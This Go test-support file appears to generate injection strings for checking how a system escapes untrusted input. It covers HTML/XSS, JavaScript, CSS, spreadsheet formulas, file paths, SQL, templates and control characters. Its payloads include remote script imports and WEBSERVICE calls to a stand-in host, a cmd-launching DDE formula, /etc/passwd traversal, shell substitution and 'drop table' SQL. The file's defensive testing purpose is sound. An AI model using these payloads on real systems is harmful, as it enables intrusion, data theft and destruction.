package vuil

import "strings"

// Injectie is a text that does something where it is not treated as text.
type Injectie struct{ Soort, Tekst string }

// Marker is what an injected script sets, and the name of an injected style and file.
const Marker = "vuilbewijs"

// Injecties are the texts, by what they attack.
func Injecties() (all []Injectie) {
	for _, part := range []struct {
		kind, wraps, payloads string
	}{
		{"HTML", "@|\">@|'>@|</td></tr></table>@|</title>@|</svg>@|--><!-- -->@",
			"<script>J</script>|<img src=x onerror=J>|<svg onload=J>|<iframe src=\"javascript:J\"></iframe>|<a href=\"javascript:J\">x</a>|<object data=x></object>|<base href=//elders.example/>|<meta http-equiv=refresh content=\"0;url=//elders.example\">"},
		{"JS", "@|';@;//|\";@;//|`;@;//|\\';@;//|</script><script>@</script>", "J|${J}|eval('J')|new Function('J')()|import('//elders.example/x.js')|\\u0077indow.M=1"},
		{"CSS", "@|;@|}@|</style><style>@</style>|\"@", "*{--M:1}|body{background:url(//elders.example/M)}|@import url(//elders.example/M.css);|:root{display:none;--M:1}"},
		{"FORMULE", "@|\"@|;@|\t@|a\n@| @", "=1+1|+1+1|-1+1|@SUM(1;1)|=cmd\\|' /C calc'!A0|=HYPERLINK(\"http://elders.example/M\";\"x\")|=WEBSERVICE(\"http://elders.example/M\")"},
		{"PAD", "@|@.csv|%@", "../../../M|..\\..\\M|/tmp/M|C:\\M|file:///etc/passwd|con|~/M|$(touch M)|`touch M`|a\x00M"},
		{"SQL", "@|'@|\"@|')@", "; drop table staging.persoon; --| or 1=1 --|; copy (select 1) to 'M'; --| union select * from read_csv('/etc/passwd') --|; attach 'M' as x; --|; install httpfs; --"},
		{"SJABLOON", "@|x@x", "{{.}}|{{define \"kop\"}}M{{end}}|${7*7}|#{7*7}|<%= 7*7 %>|{%% raw %%}|{{html .Regio}}|%s%n%x|$M"},
		{"TEKEN", "@|x@x", "\u202eM|\u2066M\u2069|M\u200b|\x1b[2J|\x1b]0;M\x07|\u009b31m|\ufeffM|\u2028M|\r\nM: 1|\x07|e\u0301\u0301\u0301\u0301|\U0001f600\u200dM"},
	} {
		for _, wrap := range split(part.wraps) {
			for _, payload := range split(part.payloads) {
				text := strings.ReplaceAll(strings.Replace(wrap, "@", payload, 1), "J", "window.M=1")
				all = append(all, Injectie{part.kind, strings.ReplaceAll(text, "M", Marker)})
			}
		}
	}
	return all
}

// split cuts at | that has no \ before it.
func split(text string) []string {
	parts := strings.Split(strings.ReplaceAll(text, `\|`, "\x01"), "|")
	for i := range parts {
		parts[i] = strings.ReplaceAll(parts[i], "\x01", "|")
	}
	return parts
}
